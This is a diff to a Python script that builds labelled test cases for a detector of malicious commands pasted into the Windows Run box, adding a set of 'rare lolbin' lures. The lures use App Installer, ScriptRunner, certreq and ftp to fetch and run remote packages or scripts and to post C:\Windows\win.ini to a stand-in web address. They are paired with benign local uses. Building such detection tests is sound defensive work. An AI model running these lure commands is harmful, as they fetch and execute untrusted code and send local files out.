@@ -45,6 +45,9 @@ Each line is {id, text, expect, technique, platform, source, target}. Techniques
 - `download-then-source`: a download saved to a file and read into the shell with `.` or
   `source`, or fed to a shell through `< <(curl …)`: `flagged`; activating a local virtualenv:
   not flagged;
+- `rare-lolbins`: App Installer's protocol fetching a package, App-V's script runner on a share,
+  certreq posting to a web address, ftp reading commands from a share: `malicious` in the Run
+  box from a stranger's page, `flagged` bare; their local uses: not flagged;
 - `oauth-placeholder`: a documentation redirect whose code is cut short with `...`: not flagged;
   a real code: `flagged`.
 """
@@ -582,6 +585,40 @@ def source_cases() -> list[dict[str, str]]:
     return out
 
 
+def rare_lolbin_cases() -> list[dict[str, str]]:
+    page = STRANGER_PAGES[1]
+    lures = [
+        "start ms-appinstaller:?source=https://static.ember-cdn.example/Teams.appinstaller",
+        "ScriptRunner.exe -appvscript \\\\files.quartz-relay.example\\s\\fix.cmd",
+        "certreq -Post -config https://api.pine-sync.test/c C:\\Windows\\win.ini out.txt",
+        "ftp -i -s:\\\\203.0.113.61\\pub\\cmds.txt",
+    ]
+    out = []
+    for n, text in enumerate(lures, start=1):
+        out += [
+            case(f"rt-rare-lolbin-{n}", text, "malicious", "T1218", "windows", page, "run_dialog"),
+            case(f"rt-rare-lolbin-bare-{n}", text, "flagged", "T1218", "windows", "", "unknown"),
+        ]
+    benign = [
+        'certreq -submit -config "ca01.corp.example\\Corp Issuing CA" request.csr cert.cer',
+        "ftp -s:upload-commands.txt ftp.example-files.com",
+        "ScriptRunner.exe -appvscript C:\\Scripts\\prelaunch.cmd -appvscriptrunnerparameters -wait",
+    ]
+    out += [
+        case(
+            f"rt-rare-lolbin-ok-{n}",
+            text,
+            "not_flagged",
+            BENIGN,
+            "windows",
+            "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/",
+            "terminal",
+        )
+        for n, text in enumerate(benign, start=1)
+    ]
+    return out
+
+
 def build() -> list[dict[str, str]]:
     cases = (
         page_disguise_cases()
@@ -599,6 +636,7 @@ def build() -> list[dict[str, str]]:
         + oauth_cases()
         + url_program_cases()
         + source_cases()
+        + rare_lolbin_cases()
     )
     ids = [c["id"] for c in cases]
     assert len(ids) == len(set(ids)), "case ids must be unique"
